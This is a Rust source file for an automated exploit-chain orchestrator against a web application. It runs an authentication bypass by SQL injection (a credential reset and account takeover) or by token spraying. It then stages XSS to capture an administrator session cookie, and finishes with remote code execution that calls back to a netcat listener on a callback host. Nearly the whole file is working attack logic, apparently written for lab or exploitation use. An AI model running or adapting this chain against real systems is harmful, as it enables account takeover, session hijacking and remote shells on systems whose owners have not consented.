use tokio::sync::mpsc;
use crate::audit::RunLog;
use crate::auth::{CredentialResetFlow, SessionEstablisher, TokenSpray};
use crate::config::ChainConfig;
use crate::errors::ChainError;
use crate::http::Session;
use crate::listener::{ChannelOpener, NetcatListener};
use crate::models::{BypassMethod, Credential, Target};
use crate::oracle::{test_vulnerability, HttpOracle};
use crate::privesc::XssStager;
use crate::rce::RceDispatcher;
use super::events::ChainEvent;
use super::stage::stage;
use super::state::*;
use tracing::{error, info, warn};

/// Drives one run through bypass, privilege escalation and RCE.
pub struct ChainOrchestrator {
    target: Target,
    config: ChainConfig,
    run_id: String,
    state: ChainState,
    opener: Box<dyn ChannelOpener>,
    run_log: Option<RunLog>,
    event_tx: Option<mpsc::UnboundedSender<ChainEvent>>,
    session_override: Option<String>,
}

impl ChainOrchestrator {
    pub fn new(target: Target, config: ChainConfig) -> Self {
        Self {
            target,
            config,
            run_id: uuid::Uuid::new_v4().to_string(),
            state: ChainState::Start,
            opener: Box::new(NetcatListener),
            run_log: None,
            event_tx: None,
            session_override: None,
        }
    }

    /// Replace the default netcat listener.
    pub fn with_opener(mut self, opener: Box<dyn ChannelOpener>) -> Self {
        self.opener = opener;
        self
    }

    pub fn with_run_log(mut self, run_log: RunLog) -> Self {
        self.run_log = Some(run_log);
        self
    }

    /// Attach an event channel for streaming chain events to a renderer.
    pub fn with_event_channel(mut self, tx: mpsc::UnboundedSender<ChainEvent>) -> Self {
        self.event_tx = Some(tx);
        self
    }

    /// Session id to present on privileged requests instead of the one the
    /// login produced, e.g. an administrator cookie captured by the XSS stage.
    pub fn with_session_override(mut self, session_id: String) -> Self {
        self.session_override = Some(session_id);
        self
    }

    pub fn run_id(&self) -> &str {
        &self.run_id
    }

    pub fn state(&self) -> ChainState {
        self.state
    }

    fn emit(&self, event: ChainEvent) {
        if let Some(ref tx) = self.event_tx {
            let _ = tx.send(event);
        }
    }

    /// Run log failures never stop the chain.
    async fn record(&self, message: &str) {
        if let Some(ref log) = self.run_log {
            if let Err(e) = log.log_event(message).await {
                warn!(error = %e, path = %log.path().display(), "Failed to write run log");
            }
        }
    }

    async fn enter_stage(&mut self, next: ChainState, name: StageName) {
        self.state = next;
        let (step, def) = stage(name);
        info!(step, stage = %name, "{}", def.display_name);
        self.emit(ChainEvent::StageStarted {
            stage: def.name,
            step,
            display_name: def.display_name,
        });
        self.record(&format!("Step {} - {} started", step, def.display_name)).await;
    }

    async fn finish_stage(&self, name: StageName, outcome: &StageOutcome) {
        match outcome {
            StageOutcome::Failed(reason) => warn!(stage = %name, reason = %reason, "Stage failed"),
            _ => info!(stage = %name, outcome = %outcome, "Stage finished"),
        }
        self.emit(ChainEvent::StageFinished {
            stage: name,
            outcome: outcome.clone(),
        });
        self.record(&format!("Stage {} {}", name, outcome)).await;
    }

    async fn finish(&mut self, result: ChainResult) -> ChainResult {
        self.state = ChainState::Done;
        self.record(&format!(
            "Chain finished: completed={} succeeded={}",
            result.completed(),
            result.succeeded()
        )).await;
        self.emit(ChainEvent::ChainFinished { result: result.clone() });
        result
    }

    /// Execute the chain selected by the target.
    ///
    /// Stage failures are reported in the returned [`ChainResult`]; `Err` is
    /// reserved for problems that prevent the run from starting at all.
    pub async fn run(&mut self) -> Result<ChainResult, ChainError> {
        let selector = self.target.selector;
        let base_url = self.target.base_url();
        let mut session = Session::new(&base_url, &self.config)?;

        if let Some(ref log) = self.run_log {
            if let Err(e) = log.initialize(&self.run_id, &self.target).await {
                warn!(error = %e, path = %log.path().display(), "Failed to create run log");
            }
        }

        info!(
            run_id = %self.run_id,
            target = %base_url,
            callback = %self.target.callback_host,
            username = %self.target.username,
            chain = selector.value(),
            "Starting exploit chain {}",
            selector.describe()
        );
        self.emit(ChainEvent::ChainStarted {
            run_id: self.run_id.clone(),
            target: base_url.clone(),
            chain: selector.describe(),
        });

        let mut result = ChainResult::default();

        // Step 1
        self.enter_stage(ChainState::Bypass, StageName::Bypass).await;
        let bypass = self.bypass(&session).await;
        result.bypass = StageOutcome::from_result(&bypass);
        self.finish_stage(StageName::Bypass, &result.bypass).await;

        let credential = match bypass {
            Ok(credential) => credential,
            Err(e) if !self.config.continue_on_bypass_failure => {
                error!(error = %e, "Authentication bypass failed, aborting chain");
                return Ok(self.finish(result).await);
            }
            Err(_) => {
                warn!("Continuing with assumed credentials after failed bypass");
                Credential::new(&self.target.username, &self.config.new_password)
            }
        };

        if !SessionEstablisher::new(&self.config).login(&mut session, &credential).await {
            warn!(username = %credential.username, "Continuing without an established session");
        }

        // Step 2
        self.enter_stage(ChainState::PrivEsc, StageName::PrivEsc).await;
        let privesc = match Session::new(&base_url, &self.config) {
            Ok(fresh) => XssStager::new(&self.config, &self.target)
                .stage_xss(&fresh, &credential)
                .await,
            Err(e) => Err(e),
        };
        result.privesc = StageOutcome::from_result(&privesc);
        self.finish_stage(StageName::PrivEsc, &result.privesc).await;

        // Step 3
        self.enter_stage(ChainState::Rce, StageName::Rce).await;
        if let Some(ref id) = self.session_override {
            info!(cookie = %self.config.session_cookie, "Using supplied session id for RCE");
            session.set_session_id(id);
        }
        let dispatcher = RceDispatcher::new(
            &session,
            &self.config,
            &self.target.callback_host,
            self.opener.as_ref(),
        );
        let rce = dispatcher.execute_rce(selector.rce_variant()).await;
        result.rce = StageOutcome::from_result(&rce);
        self.finish_stage(StageName::Rce, &result.rce).await;

        Ok(self.finish(result).await)
    }

    async fn bypass(&self, session: &Session) -> Result<Credential, ChainError> {
        match self.target.selector.bypass() {
            BypassMethod::SqlInjection => {
                let oracle = HttpOracle::new(session, &self.config);
                if !test_vulnerability(&oracle).await {
                    return Err(ChainError::Assertion(
                        "target is not vulnerable to SQL injection".into(),
                    ));
                }
                info!("Target is vulnerable to SQL injection");

                let mut flow = CredentialResetFlow::new(session, &oracle, &self.config);
                if let Some(ref tx) = self.event_tx {
                    flow = flow.with_event_channel(tx.clone());
                }
                flow.reset_and_takeover(&self.target.username).await
            }
            BypassMethod::TokenSpray => {
                if TokenSpray::new(session, &self.config).spray(&self.config.spray_tokens).await {
                    Ok(Credential::new(&self.target.username, &self.config.new_password))
                } else {
                    Err(ChainError::SearchExhaustion(format!(
                        "none of {} sprayed tokens accepted",
                        self.config.spray_tokens.len()
                    )))
                }
            }
        }
    }
}
